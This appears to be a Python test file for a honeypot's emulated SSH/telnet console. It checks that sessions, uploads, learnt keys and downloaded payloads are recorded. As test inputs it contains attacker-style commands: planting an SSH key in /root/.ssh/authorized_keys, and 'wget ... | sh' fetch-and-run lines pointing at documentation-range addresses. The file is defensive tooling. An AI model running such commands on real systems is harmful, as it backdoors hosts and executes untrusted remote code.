"""What is typed becomes events; what is brought becomes bodies."""

from __future__ import annotations

import asyncio
import gc
import weakref
from base64 import b64encode
from typing import Any

from mead.sensors.console import Console


async def test_commands_are_told_with_their_status(bench: Any) -> Any:
    b = bench("telnet")
    console = Console(b.context, b"root", door="telnet", interactive=True)
    console.line(b"false")
    console.line(b"   ")
    console.line(b"echo \xff")
    assert [(event.command, event.exit_status) for event in b.events] == [("false", 1), ("echo \\xff", 0)]


async def test_a_key_written_to_authorized_keys_is_learnt(bench: Any) -> Any:
    b = bench("ssh")
    console = Console(b.context, b"root", door="ssh", interactive=False)
    blob = b64encode(b"\0\0\0\x07ssh-rsa" + bytes(64)).decode()
    console.command(f"mkdir -p /root/.ssh; echo ssh-rsa {blob} mdrfckr > /root/.ssh/authorized_keys".encode())
    b.capture.flush()
    await b.desk.drain(5)
    assert b.events.of("file.uploaded")[0].path == "/root/.ssh/authorized_keys"
    from base64 import b64decode
    from hashlib import sha256

    name = "SHA256:" + b64encode(sha256(b64decode(blob)).digest()).decode().rstrip("=")
    assert b.credentials.accepts_key(name)


async def test_standard_input_goes_to_the_command_that_reads(bench: Any) -> Any:
    b = bench("ssh")
    console = Console(b.context, b"root", door="ssh", interactive=False)
    console.command(b"cat > /tmp/f")
    assert console.reading
    assert console.prompt == b""
    console.feed(b"abc\x00\xff")
    console.feed_eof()
    assert not console.reading
    b.capture.flush()
    await b.desk.drain(5)
    assert list(b.bodies.values()) == [b"abc\x00\xff"]


async def test_a_shell_that_nobody_holds_leaves_nothing_for_the_garbage_collector(bench: Any) -> Any:
    b = bench("telnet")
    gc.disable()
    try:
        console = Console(b.context, b"root", door="telnet", interactive=True)
        console.line(b"echo x > /tmp/x; cat /proc/self/stat; (sleep 5 &)")
        console.close()
        machine, files = weakref.ref(console.shell.machine), weakref.ref(console.files)
        del console
        await b.desk.drain(5)
        assert machine() is None
        assert files() is None
    finally:
        gc.enable()


async def test_a_body_that_comes_after_the_session_finds_its_shell(bench: Any) -> Any:
    come = asyncio.Event()

    async def follow(offer: Any, publish: Any) -> bytes:
        await come.wait()
        return b"#!/bin/sh\nwget http://198.51.100.2/second\n"

    b = bench("telnet", follow=follow)
    console = Console(b.context, b"root", door="telnet", interactive=True)
    console.line(b"wget http://198.51.100.1/first -O- | sh")
    console.close()
    del console
    gc.collect()
    come.set()
    await b.desk.drain(5)
    assert [offer.url for offer in b.events.of("offer.seen")][:2] == [
        "http://198.51.100.1/first", "http://198.51.100.2/second",
    ]  # fmt: skip
